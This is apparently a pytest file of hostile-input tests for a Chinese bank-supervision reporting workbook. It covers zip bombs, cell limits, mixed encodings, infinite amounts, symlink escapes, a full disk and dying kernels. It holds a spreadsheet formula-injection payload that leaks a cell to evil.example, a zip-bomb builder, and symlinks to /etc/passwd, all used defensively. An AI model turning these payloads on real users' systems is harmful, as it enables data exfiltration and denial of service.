"""Hostile and broken inputs, round two (issue 23): each case is a file or a fault an outside
audit planted, with what the workbook must do about it. Fixtures are written by hand (zip
members, CSV bytes, Parquet through pyarrow), never by the code under test."""

from __future__ import annotations

import codecs
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from analysis.core.contract import MAX_CELLS, MAX_UNPACKED_MB
from analysis.core.errors import DataValidationError
from analysis.inputs.validation import load_dataset

ROOT = Path(__file__).resolve().parents[1]
PARAMS = ROOT / "params"
MONTHLY = "月度监测.csv"
INSTITUTIONS = "机构名录.csv"
PLANS = "信贷计划.csv"


# the validation tests' own helpers: CSV read/write and the issues a refused folder raises
from tests.inputs.test_validation import issues_of, read, write  # noqa: E402


def only(issues, rule):
    hits = [i for i in issues if i.rule == rule]
    assert hits, f"no {rule}; got {[i.format() for i in issues][:10]}"
    return hits


# ---------------------------------------------------------------- zip bomb, too many cells

_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _institutions_workbook(path: Path, frame: pd.DataFrame, dimension: str | None = None, padding_mb: int = 0) -> None:
    """A minimal .xlsx written member by member: one sheet of inline strings, optionally a
    declared range (``dimension``) and a highly compressible padding member of ``padding_mb`` MB
    (the shape of a zip bomb: a few hundred KB on disk)."""

    def col(j: int) -> str:
        return chr(ord("A") + j)

    rows = [list(frame.columns), *frame.astype(str).values.tolist()]
    cells = "".join(
        f'<row r="{i}">'
        + "".join(f'<c r="{col(j)}{i}" t="inlineStr"><is><t>{v}</t></is></c>' for j, v in enumerate(r))
        + "</row>"
        for i, r in enumerate(rows, start=1)
    )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = f"{_SHEET_HEAD}{dim}<sheetData>{cells}</sheetData></worksheet>"
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="机构名录" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, text in members.items():
            book.writestr(name, text.encode("utf-8"))
        if padding_mb:
            with book.open("xl/media/padding.bin", "w", force_zip64=True) as pad:
                block = b"\0" * 2**20
                for _ in range(padding_mb):
                    pad.write(block)


def test_a_workbook_that_unpacks_past_the_limit_is_refused_unread(data):
    frame = read(data, INSTITUTIONS)
    _institutions_workbook(data / "机构名录.xlsx", frame)
    (data / INSTITUTIONS).unlink()
    load_dataset(data, PARAMS)  # the hand-written workbook itself is a valid institutions table

    bomb = data / "机构名录.xlsx"
    _institutions_workbook(bomb, frame, padding_mb=MAX_UNPACKED_MB + 8)
    assert bomb.stat().st_size < 2 * 2**20  # a few hundred KB on disk
    hit = only(issues_of(data), "file_too_large")
    assert len(hit) == 1 and hit[0].file == "机构名录.xlsx"
    assert f"{MAX_UNPACKED_MB + 8:,} MB" in hit[0].detail  # the size found (declared unpacked size)
    assert f"{MAX_UNPACKED_MB:,} MB" in hit[0].detail  # and the limit
    assert "文件解压后过大" in hit[0].format() and "zip bomb" in hit[0].format()


def test_a_workbook_declaring_more_cells_than_the_limit_is_refused(data):
    frame = read(data, INSTITUTIONS)
    rows = MAX_CELLS // 7 + 10  # seven columns (A:G) of that many rows: just past the limit
    _institutions_workbook(data / "机构名录.xlsx", frame, dimension=f"A1:G{rows}")
    (data / INSTITUTIONS).unlink()
    hit = only(issues_of(data), "file_too_large")
    assert hit[0].file == "机构名录.xlsx"
    assert f"{rows * 7:,}" in hit[0].detail and f"{MAX_CELLS:,}" in hit[0].detail


def test_a_single_workbook_bomb_is_refused_before_its_sheets_are_listed(tmp_path, data):
    bomb = tmp_path / "all.xlsx"
    _institutions_workbook(bomb, read(data, INSTITUTIONS), padding_mb=MAX_UNPACKED_MB + 1)
    issues = issues_of(bomb)
    assert [i.rule for i in issues] == ["file_too_large"]


def test_a_parquet_table_past_the_cell_limit_is_refused(data):
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = MAX_CELLS // 25 + 1000
    table = pa.table({f"c{j}": pa.array([0.0] * rows) for j in range(25)})
    pq.write_table(table, data / "月度监测.parquet")
    (data / MONTHLY).unlink()
    hit = only(issues_of(data), "file_too_large")
    assert hit[0].file == "月度监测.parquet" and f"{rows * 25:,}" in hit[0].detail


def test_a_qualitative_scores_bomb_is_refused(tmp_path):
    from analysis.rules.scoring import load_scoring, read_qualitative

    bomb = tmp_path / "定性评分-2023.xlsx"
    _institutions_workbook(bomb, pd.DataFrame({"机构编码": ["B010"]}), padding_mb=MAX_UNPACKED_MB + 1)
    frame, issues = read_qualitative(bomb, load_scoring(PARAMS / "scoring-2023.yaml"), {"B010"})
    assert frame.empty and [i.rule for i in issues] == ["file_too_large"]


# ---------------------------------------------------------------- endless names

LONG_NAME = "NANYANGVILLAGEBANK" * 278  # 5,004 characters, not one break opportunity


def test_a_name_longer_than_the_contract_allows_is_refused_at_its_row(data):
    from analysis.core.contract import TEXT_MAX_LENGTH

    frame = read(data, INSTITUTIONS)
    row = 7
    frame.loc[row - 2, "机构名称"] = LONG_NAME
    write(data, INSTITUTIONS, frame)
    hit = only(issues_of(data), "text_too_long")
    assert [(i.file, i.row, i.column) for i in hit] == [(INSTITUTIONS, row, "name")]
    assert f"{len(LONG_NAME):,}" in hit[0].detail and f"{TEXT_MAX_LENGTH}" in hit[0].detail
    assert len(hit[0].format()) < 400  # the problem names the text by its start, not all 5,000 characters


def test_a_name_at_the_limit_passes(data):
    from analysis.core.contract import TEXT_MAX_LENGTH

    frame = read(data, INSTITUTIONS)
    frame.loc[5, "机构名称"] = "南" * TEXT_MAX_LENGTH
    write(data, INSTITUTIONS, frame)
    load_dataset(data, PARAMS)


def test_a_long_evidence_text_is_refused_at_its_row(tmp_path):
    from analysis.core.contract import EVIDENCE_MAX_LENGTH
    from analysis.rules.scoring import load_scoring, read_qualitative

    table = load_scoring(PARAMS / "scoring-2023.yaml")
    item = next(i for i in table.items if i.kind == "qualitative")
    scores = tmp_path / "定性评分-2023.csv"
    pd.DataFrame(
        {
            "机构编码": ["B010", "B011"],
            "年度": [2023, 2023],
            "评分项目编码": [item.id, item.id],
            "得分": [item.max, item.max],
            "评分依据": ["制度健全", "依" * (EVIDENCE_MAX_LENGTH + 1)],
        }
    ).to_csv(scores, index=False, encoding="utf-8-sig")
    frame, issues = read_qualitative(scores, table, {"B010", "B011"})
    assert list(frame["institution_id"]) == ["B010"]
    assert [(i.row, i.column, i.rule) for i in issues] == [(3, "evidence", "text_too_long")]


A4_WIDTH_PT = 595.2756
MARGIN_PT = 16 / 25.4 * 72  # PRINT_CSS: 16 mm left and right


def test_the_pdf_layout_wraps_the_longest_unbroken_name_the_contract_allows(tmp_path):
    """The report stylesheet lets a long unbroken name wrap (overflow-wrap: anywhere) on the cover,
    in the running header, headings, paragraphs and table cells, so it can neither widen a table
    past the page nor run off it. The length itself is bounded by the contract (TEXT_MAX_LENGTH):
    WeasyPrint's layout time grows faster than the length of one text (a 1,600-character name on
    the cover alone took 45 s, wrapped or not), so no stylesheet could make 5,000 characters cheap."""
    import subprocess
    from html import escape

    from analysis.core.contract import TEXT_MAX_LENGTH
    from analysis.outputs.html import report_css
    from analysis.outputs.pdf import report_pdf

    longest = LONG_NAME[:TEXT_MAX_LENGTH]
    name = escape(longest)
    html = (
        f'<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><style>{report_css()}</style></head>'
        f'<body><main class="report"><h1>{name}</h1><p>机构：{name}</p>'
        '<table class="indicators"><thead><tr><th>序号</th><th>机构名称</th><th>余额（万元）</th></tr></thead>'
        f'<tbody><tr><td>1</td><td>{name}</td><td class="num">1,234.56</td></tr></tbody></table>'
        f'<ul class="findings"><li>{name}</li></ul></main></body></html>'
    )
    pdf = tmp_path / "long.pdf"
    report_pdf(
        html,
        pdf,
        title="小微企业金融服务监管评价报告",
        name=longest,
        period_label="2023年12月",
        office="南阳监管分局",
        issued="2024年01月15日",
    )
    words = re.findall(
        r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)"[^>]*>([^<]*)</word>',
        subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout,
    )
    assert words
    past = [(text[:20], float(x1)) for x0, x1, text in words if float(x1) > A4_WIDTH_PT - MARGIN_PT + 0.5]
    assert not past, past[:5]
    assert any("NANYANGVILLAGEBANK" in text for _, _, text in words)
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert int(re.search(r"Pages:\s+(\d+)", info).group(1)) == 2  # the cover and one page


# ---------------------------------------------------------------- formula injection, every workbook

HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def formula_elements(path: Path) -> list[str]:
    """Every ``<f>`` element of every sheet of the workbook at ``path``, read from the archive's
    XML (not through openpyxl). The project writes no formulas: any is an injection."""
    found = []
    with zipfile.ZipFile(path) as book:
        for member in book.namelist():
            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
                xml = book.read(member).decode("utf-8")
                found += [f"{member}: {m}" for m in re.findall(r"<(?:\w+:)?f[\s>/][^<]*", xml)]
    return found


def text_cells(path: Path, text: str) -> list[str]:
    """Data types of the cells holding exactly ``text`` (openpyxl: 's' text, 'f' formula)."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    return [c.data_type for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def test_the_formula_checker_finds_a_planted_formula(tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = HOSTILE_TEXT  # what DataFrame.to_excel does with such a string
    book.save(tmp_path / "planted.xlsx")
    assert formula_elements(tmp_path / "planted.xlsx")


def test_the_loans_findings_workbook_stores_a_formula_like_receipt_id_as_text(tmp_path):
    from analysis.inputs.loans import analyse_loans, write_findings_xlsx
    from tests.inputs.test_loans import CUSTOMERS, LINES, RECEIPTS, _reported

    folder = tmp_path / "loans"
    folder.mkdir()
    receipts = RECEIPTS.copy()
    receipts.loc[receipts["receipt_id"] == "R6", "receipt_id"] = HOSTILE_TEXT  # R6: overdue, not NPL
    for name, frame in (("receipts", receipts), ("customers", CUSTOMERS), ("credit_lines", LINES)):
        frame.to_csv(folder / f"{name}.csv", index=False)
    findings = analyse_loans(folder, _reported())
    assert HOSTILE_TEXT in findings.checks["overdue_not_npl"]["receipt_id"].tolist()
    path = write_findings_xlsx(findings, tmp_path / "findings.xlsx")
    assert not formula_elements(path)
    assert text_cells(path, HOSTILE_TEXT) == ["s"]


def test_indicators_workbook_from_validated_data_stores_formula_like_names_as_text(tmp_path, data):
    from analysis.outputs.excel import write_indicator_workbook
    from analysis.state import compute_state

    frame = read(data, INSTITUTIONS)
    frame.loc[frame["机构编码"] == "B010", "机构名称"] = HOSTILE_TEXT
    frame.loc[frame["机构编码"] == "B011", "机构名称"] = "@SUM(A1:A9)"
    write(data, INSTITUTIONS, frame)
    state = compute_state(data, PARAMS)
    path = write_indicator_workbook(state, pd.Timestamp("2023-06-30"), tmp_path / "indicators.xlsx")
    assert not formula_elements(path)
    assert set(text_cells(path, HOSTILE_TEXT)) == {"s"} and set(text_cells(path, "@SUM(A1:A9)")) == {"s"}


def test_the_imported_monitoring_table_stores_text_as_text(tmp_path):
    from analysis.inputs.s71 import merge as s71

    monthly = pd.DataFrame({"institution_id": [HOSTILE_TEXT], "period": [pd.Timestamp("2023-06-30")]})
    for col in s71.MONTHLY.columns:
        if col.name not in monthly:
            monthly[col.name] = [1.0]
    cells = pd.DataFrame(
        columns=["institution_id", "period", "cell", "value_wan", "org_num", "item", "version", "unit"]
        + ["file", "sheet", "location", "year", "derived"]
    ).astype({"period": "datetime64[ns]"})
    provenance = pd.DataFrame({"period": ["2023-06-30"]})
    s71._write_outputs(tmp_path, monthly, provenance, cells, None, None)
    assert not formula_elements(tmp_path / "monthly.xlsx")
    assert text_cells(tmp_path / "monthly.xlsx", HOSTILE_TEXT) == ["s"]


def test_the_demo_workbooks_hold_no_formula(tmp_path, demo_xlsx_dir):
    from analysis.demo.s71 import write_form_workbook
    from analysis.inputs.s71 import load_form_versions

    books = sorted(demo_xlsx_dir.glob("*.xlsx"))
    assert len(books) >= 5
    for book in books:
        assert not formula_elements(book), book.name
    versions = load_form_versions(PARAMS)
    cells = pd.DataFrame({"period": [pd.Timestamp("2023-06-30")], "cell": ["6.A5"], "value": [12.5]})
    form = tmp_path / "S71_B030_表样.xlsx"
    write_form_workbook(form, "B030", HOSTILE_TEXT, cells, versions)
    assert not formula_elements(form)


# ---------------------------------------------------------------- a CSV with a BOM and GBK rows


def test_a_utf8_csv_with_gbk_rows_is_refused_at_the_first_gbk_line(data):
    text = (data / INSTITUTIONS).read_text(encoding="utf-8-sig")
    lines = text.splitlines(keepends=True)
    head = "".join(lines[:5]).encode("utf-8")
    gbk_rows = "".join(lines[5:8]).encode("gbk")  # rows 6-8 pasted in from a GBK export
    raw = codecs.BOM_UTF8 + head + gbk_rows + "".join(lines[8:]).encode("utf-8")
    (data / INSTITUTIONS).write_bytes(raw)
    offset = len(codecs.BOM_UTF8 + head) + next(
        i for i, b in enumerate(gbk_rows) if b >= 0x80
    )  # the first non-ASCII byte of line 6
    line_start = len(codecs.BOM_UTF8 + head)
    hit = only(issues_of(data), "encoding_error")
    assert [(i.file, i.row) for i in hit] == [(INSTITUTIONS, 6)]
    assert f"byte offset {offset} " in hit[0].detail and f"byte {offset - line_start + 1} of the line" in hit[0].detail
    assert "第6行" in hit[0].detail and "GBK" in hit[0].detail


def test_a_gbk_csv_and_a_utf8_csv_without_bom_still_read(data):
    text = (data / INSTITUTIONS).read_text(encoding="utf-8-sig")
    (data / INSTITUTIONS).write_bytes(text.encode("gbk"))
    gbk = load_dataset(data, PARAMS)
    (data / INSTITUTIONS).write_bytes(text.encode("utf-8"))
    utf8 = load_dataset(data, PARAMS)
    pd.testing.assert_frame_equal(gbk.institutions, utf8.institutions)


# ---------------------------------------------------------------- infinite and absurd amounts


def _monthly_parquet(data: Path) -> pd.DataFrame:
    """The monitoring table as Parquet with real float columns (as an extract would hold it)."""
    frame = read(data, MONTHLY)
    for col in frame.columns[2:]:
        frame[col] = pd.to_numeric(frame[col].replace("", None), errors="coerce")
    (data / MONTHLY).unlink()
    return frame


def test_infinite_and_absurd_amounts_in_parquet_are_refused_at_their_rows(data):
    from analysis.core.contract import AMOUNT_CEILING

    frame = _monthly_parquet(data)
    inf_row, huge_row, minus_row = (
        (first_bank_row := int(frame.index[frame["机构编码"] == "B017"][0])),
        first_bank_row + 1,
        first_bank_row + 2,
    )
    frame.loc[inf_row, "各项贷款余额"] = float("inf")
    frame.loc[huge_row, "各项贷款余额"] = 1e300
    frame.loc[minus_row, "普惠型小微企业贷款余额"] = float("-inf")
    frame.to_parquet(data / "月度监测.parquet", index=False)
    issues = issues_of(data)  # Parquet rows count records from 1 (no header row)
    finite = only(issues, "not_finite")
    assert sorted((i.row, i.column) for i in finite) == [
        (inf_row + 1, "total_loans"),
        (minus_row + 1, "inclusive_balance"),
    ]
    ceiling = only(issues, "out_of_range")
    assert [(i.row, i.column) for i in ceiling] == [(huge_row + 1, "total_loans")]
    assert f"{AMOUNT_CEILING:,.0f} 万元" in ceiling[0].detail
    # reported at the root only: an infinite balance is not also "negative" or a cross-field breach
    assert not [i for i in issues if i.row in (inf_row + 1, minus_row + 1) and i.rule not in ("not_finite",)]


def test_inf_typed_in_a_csv_and_an_infinite_plan_are_refused(data):
    frame = read(data, MONTHLY)
    frame.loc[3, "普惠型小微企业贷款当年累放金额"] = "inf"
    write(data, MONTHLY, frame)
    plans = read(data, PLANS)
    plans.loc[0, "计划新增额"] = "-inf"  # plans may be negative, never infinite
    write(data, PLANS, plans)
    finite = only(issues_of(data), "not_finite")
    assert sorted((i.file, i.row, i.column) for i in finite) == sorted(
        [(MONTHLY, 5, "inclusive_ytd_disbursed"), (PLANS, 2, "planned_increase")]
    )


def test_the_largest_demo_figures_are_far_below_the_ceilings(demo_csv_dir):
    from analysis.core.contract import MONTHLY as CONTRACT_MONTHLY

    ds = load_dataset(demo_csv_dir, PARAMS)
    for col in CONTRACT_MONTHLY.columns:
        if col.max_value is not None and col.kind in ("amount", "count"):
            assert ds.monthly[col.name].max() * 10 < col.max_value, col.name


# ---------------------------------------------------------------- scoring bands, negative plans


def test_a_grade_band_above_the_tables_maximum_is_refused(tmp_path):
    import yaml

    from analysis.core.errors import ParamsError
    from analysis.rules.scoring import load_scoring

    spec = yaml.safe_load((PARAMS / "scoring-2023.yaml").read_text(encoding="utf-8"))
    assert spec["total"]["max"] == 115
    spec["grades"][0]["min"] = 120
    path = tmp_path / "scoring-2023.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ParamsError) as info:
        load_scoring(path)
    text = str(info.value)
    assert str(path) in text and "grades.0" in text and "120" in text and "115" in text
    assert "高于总分上限" in text


def test_a_negative_annual_plan_is_accepted_with_a_located_warning(data):
    from analysis.core.errors import format_warnings

    plans = read(data, PLANS)
    target = int(plans.index[(plans["机构编码"] == "B010") & (plans["年度"] == "2023")][0])
    plans.loc[target, "计划新增额"] = "-500"
    write(data, PLANS, plans)
    ds = load_dataset(data, PARAMS)
    warned = [w for w in ds.warnings if w.rule == "negative_plan"]
    assert [(w.file, w.row, w.column) for w in warned] == [(PLANS, target + 2, "planned_increase")]
    assert "B010 2023" in warned[0].detail and "-500.00 万元" in warned[0].detail
    assert "信贷计划新增额为负" in format_warnings(ds.warnings)


# ---------------------------------------------------------------- symlinks


def test_a_table_linked_from_outside_the_data_folder_is_named_in_a_warning(tmp_path, data):
    from analysis.core.errors import WARNING_RULES

    shared = tmp_path / "shared"
    shared.mkdir()
    (data / INSTITUTIONS).rename(shared / INSTITUTIONS)
    (data / INSTITUTIONS).symlink_to(shared / INSTITUTIONS)
    ds = load_dataset(data, PARAMS)  # the linked table is read and checked like any other
    assert "outside_link" in WARNING_RULES
    (warned,) = [w for w in ds.warnings if w.rule == "outside_link"]
    assert warned.file == INSTITUTIONS and str((shared / INSTITUTIONS).resolve()) in warned.detail


def test_a_link_to_etc_passwd_is_named_with_its_target(data):
    (data / INSTITUTIONS).unlink()
    (data / INSTITUTIONS).symlink_to("/etc/passwd")
    with pytest.raises(DataValidationError) as info:
        load_dataset(data, PARAMS)
    warned = [w for w in info.value.warnings if w.rule == "outside_link"]
    assert [w.file for w in warned] == [INSTITUTIONS] and "/etc/passwd" in warned[0].detail
    assert "/etc/passwd" in str(info.value)  # the printed report says where the table came from


@pytest.mark.parametrize("target", ["/dev/zero", "folder", "nowhere"])
def test_a_table_that_is_not_a_regular_file_is_refused_unopened(tmp_path, data, target):
    if target == "folder":
        (tmp_path / "folder").mkdir()
    path = target if target.startswith("/") else str(tmp_path / target)
    (data / INSTITUTIONS).unlink()
    (data / INSTITUTIONS).symlink_to(path)
    issues = issues_of(data)  # /dev/zero read whole would never end
    hit = [i for i in issues if i.file == INSTITUTIONS]
    assert [i.rule for i in hit] == ["file_unreadable"] and "not a regular file" in hit[0].detail


def test_serve_never_follows_a_link_out_of_the_reports_folder(tmp_path):
    import threading
    import urllib.error
    import urllib.request

    from analysis.outputs.site import make_server

    reports, outside = tmp_path / "reports", tmp_path / "private"
    (reports / "2023-12").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.html").write_text("secret", encoding="utf-8")
    (outside / "index.html").write_text("secret index", encoding="utf-8")
    (reports / "2023-12" / "B1.html").write_text("<html>B1</html>", encoding="utf-8")
    (reports / "2023-12" / "evil.html").symlink_to(outside / "secret.html")
    (reports / "2023-12" / "passwd.html").symlink_to("/etc/passwd")
    (reports / "elsewhere").symlink_to(outside, target_is_directory=True)
    (reports / "2023-12" / "inside.html").symlink_to(reports / "2023-12" / "B1.html")  # stays inside: served
    server = make_server(reports, port=0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"

    def status(path: str) -> int:
        try:
            with urllib.request.urlopen(base + path, timeout=10) as response:
                return response.status
        except urllib.error.HTTPError as exc:
            return exc.code

    try:
        assert status("/2023-12/B1.html") == 200 and status("/2023-12/inside.html") == 200
        for path in ("/2023-12/evil.html", "/2023-12/passwd.html", "/elsewhere/secret.html", "/elsewhere/"):
            assert status(path) == 404, path
    finally:
        server.shutdown()
        server.server_close()


# ---------------------------------------------------------------- a disk that fills mid-run


def _disk_fills(monkeypatch, fail_calls: set[int] | None = None) -> list[int]:
    """Manifest.save raises ENOSPC on the calls numbered in ``fail_calls`` (1 = the save at the
    start of the run), or on every call from the third when None: the disk fills after the first
    report is recorded."""
    import errno

    from analysis.core.manifest import Manifest

    calls: list[int] = []
    real_save = Manifest.save

    def save(self, path):
        calls.append(len(calls) + 1)
        n = calls[-1]
        if (fail_calls is None and n >= 3) or (fail_calls is not None and n in fail_calls):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_save(self, path)

    monkeypatch.setattr(Manifest, "save", save)
    return calls


def _fake_run(tmp_path, demo_csv_dir, ids):
    from analysis.batch import ProcessPool, run_batch

    return run_batch(
        "2023-12",
        data_dir=demo_csv_dir,
        params_dir=PARAMS,
        reports_dir=tmp_path / "reports",
        institutions=ids,
        include_overview=False,
        formats=("html",),
        progress=False,
        warm_kernels=False,
        executor=ProcessPool(2, task="tests.batch.batch_tasks:fake_report"),
    )


IDS = ["B010", "B011", "B012", "B013", "B014"]


@pytest.fixture
def cache(tmp_path, monkeypatch):
    monkeypatch.setenv("ANALYSIS_CACHE_DIR", str(tmp_path / "cache"))


def test_a_disk_that_fills_mid_run_leaves_every_report_accounted_for(tmp_path, demo_csv_dir, monkeypatch, cache):
    from analysis.core.manifest import Manifest
    from analysis.core.runerrors import BatchError

    _disk_fills(monkeypatch, fail_calls={3, 4})  # full for two saves, then room again (a log rotated)
    with pytest.raises(BatchError) as info:
        _fake_run(tmp_path, demo_csv_dir, IDS)
    text = str(info.value)
    out = tmp_path / "reports" / "2023-12"
    manifest = Manifest.load(out / "manifest.json")
    statuses = {k: e.status for k, e in manifest.entries.items()}
    assert sorted(statuses) == IDS  # every report is in the manifest
    assert set(statuses.values()) <= {"done", "not_started"} and "not_started" in statuses.values()
    for key, status in statuses.items():
        if status == "done":
            assert (out / f"{key}.html").stat().st_size > 0
        else:
            assert "No space left" in manifest.entries[key].error and not (out / f"{key}.html").exists()
            assert f"✗ {key}: 未运行 / not run" in text
    done = sum(s == "done" for s in statuses.values())
    assert f"done {done}, skipped 0, failed 0, not started {len(IDS) - done}" in text
    assert not [p for p in out.rglob("*") if p.is_file() and p.stat().st_size == 0]


def test_a_disk_that_stays_full_is_said_with_the_reports_the_manifest_lacks(tmp_path, demo_csv_dir, monkeypatch, cache):
    from analysis.core.manifest import Manifest
    from analysis.core.runerrors import BatchError

    _disk_fills(monkeypatch)
    with pytest.raises(BatchError) as info:
        _fake_run(tmp_path, demo_csv_dir, IDS)
    text = str(info.value)
    on_disk = Manifest.load(tmp_path / "reports" / "2023-12" / "manifest.json")
    assert len(on_disk.entries) == 1  # the last save that fitted: intact, so a later run resumes
    missing = text.split("the manifest could not be saved, these results are not in it: ")[1].splitlines()[0]
    assert "No space left" in missing
    assert sorted(k for k in IDS if k in missing) == sorted(set(IDS) - set(on_disk.entries))
    for key in IDS:  # every report is in the manifest on disk, or named in the summary
        assert key in on_disk.entries or key in missing, key
    assert "not started" in text and "Traceback" not in text


def test_a_report_cut_short_by_a_full_disk_leaves_no_empty_notebook(tmp_path, monkeypatch):
    import errno

    import analysis.batch.engine
    from analysis.batch import Job, WorkerSettings, run_job

    def execute(notebook, output, *args, **kwargs):
        Path(output).write_bytes(b"")  # the disk filled while papermill wrote the notebook
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(analysis.batch.engine, "execute_notebook", execute)
    job = Job(key="B010", title="B010", notebook="x.ipynb", parameters={}, out_dir=str(tmp_path), fingerprint="")
    settings = WorkerSettings(cwd=str(tmp_path), footer="", period="2023-12", formats=("html",), warm_kernels=False)
    result = run_job(job, settings)
    assert result.status == "failed" and result.fatal and "No space left" in result.error
    assert result.failed_notebook == ""
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


# ---------------------------------------------------------------- a kernel that dies at start-up


def test_a_kernel_killed_during_its_start_up_is_said_at_once(tmp_path):
    """The prelude imports a module that kills its kernel (as an OOM kill during the imports
    would): the start fails saying the kernel died, instead of "Timeout waiting for output"
    after the start-up timeout."""
    from analysis.batch.engine import KernelStartupError, WarmKernel

    (tmp_path / "dies_on_import.py").write_text("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")
    kernel = WarmKernel(tmp_path, prelude=("dies_on_import",), startup_timeout=60)
    try:
        with pytest.raises(KernelStartupError) as info:
            kernel.start()
    finally:
        kernel.shutdown()
    text = str(info.value)
    assert "the kernel died during start-up" in text and "内核在启动时退出" in text and "SIGKILL" not in text
    assert "signal 9" in text and "Timeout waiting for output" not in text


def test_a_kernel_dying_at_start_up_fails_its_report_as_a_kernel_death(tmp_path):
    from analysis.batch import Job, WorkerSettings, run_job
    from analysis.batch.engine import WarmKernel

    (tmp_path / "dies_on_import.py").write_text("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")
    kernel = WarmKernel(tmp_path, prelude=("dies_on_import",), startup_timeout=60)
    job = Job(key="B010", title="B010", notebook="x.ipynb", parameters={}, out_dir=str(tmp_path), fingerprint="")
    settings = WorkerSettings(cwd=str(tmp_path), footer="", period="2023-12", formats=("html",))
    try:
        result = run_job(job, settings, kernel)
    finally:
        kernel.shutdown()
    assert result.status == "failed" and result.retryable  # the pool retries it once, like a dead kernel
    assert "KernelStartupError" in result.error and "died during start-up" in result.error


# ---------------------------------------------------------------- round three (issue 30): requests


@pytest.mark.parametrize(
    "path",
    [
        "/" + "a" * 300 + ".html",  # a segment longer than a file name may be (ENAMETOOLONG)
        "/" + "/".join(["x"] * 5000),  # 5,000 segments: a path longer than the system's limit
        "/2023-12/B1.html%00.pdf",  # a NUL byte (ValueError: embedded null byte)
        "/%00",
    ],
)
def test_serve_answers_hostile_paths_instead_of_dropping_the_connection(tmp_path, path):
    import http.client
    import threading

    from analysis.outputs.site import make_server

    (tmp_path / "2023-12").mkdir()
    (tmp_path / "2023-12" / "B1.html").write_text("<html>B1</html>", encoding="utf-8")
    server = make_server(tmp_path, port=0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        connection = http.client.HTTPConnection("127.0.0.1", server.server_address[1], timeout=10)
        connection.request("GET", path)
        response = connection.getresponse()  # RemoteDisconnected before: the handler raised
        assert response.status in (404, 414), response.status
        connection.close()
        connection = http.client.HTTPConnection("127.0.0.1", server.server_address[1], timeout=10)
        connection.request("GET", "/2023-12/B1.html")  # and the server still serves the site
        assert connection.getresponse().status == 200
        connection.close()
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("text", ["2023-06-31", "2023-02-29", "2023-13", "2023-06-15", "2023-6-30x", "June", "23-06"])
def test_a_period_that_is_no_month_end_is_refused(text):
    from analysis.core.errors import ReportInputError
    from analysis.core.periods import parse_period

    with pytest.raises(ReportInputError, match="数据期无效 / invalid period"):
        parse_period(text)


@pytest.mark.parametrize(
    ("text", "month_end"),
    [("2023-06", "2023-06-30"), ("2023-06-30", "2023-06-30"), ("2024-02-29", "2024-02-29"), ("2023-6", "2023-06-30")],
)
def test_real_periods_still_read(text, month_end):
    from analysis.core.periods import parse_period

    assert parse_period(text) == pd.Timestamp(month_end)


@pytest.mark.parametrize(
    ("period", "said"),
    [
        ("2031-12", ["2031年无考核规则参数文件", "no policy file for 2031", "policy-2031.yaml", "2023"]),
        ("2023-06-31", ["数据期无效 / invalid period", "2023-06-30"]),
    ],
)
def test_run_refuses_a_bad_period_before_any_work(tmp_path, period, said):
    import subprocess
    import sys

    reports = tmp_path / "r"
    result = subprocess.run(
        [sys.executable, "-m", "analysis.cli", "run", "--period", period, "--reports", str(reports), "--no-pdf"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    for part in said:
        assert part in result.stderr, result.stderr
    assert "invalid parameter file" not in result.stderr and "Traceback" not in result.stderr
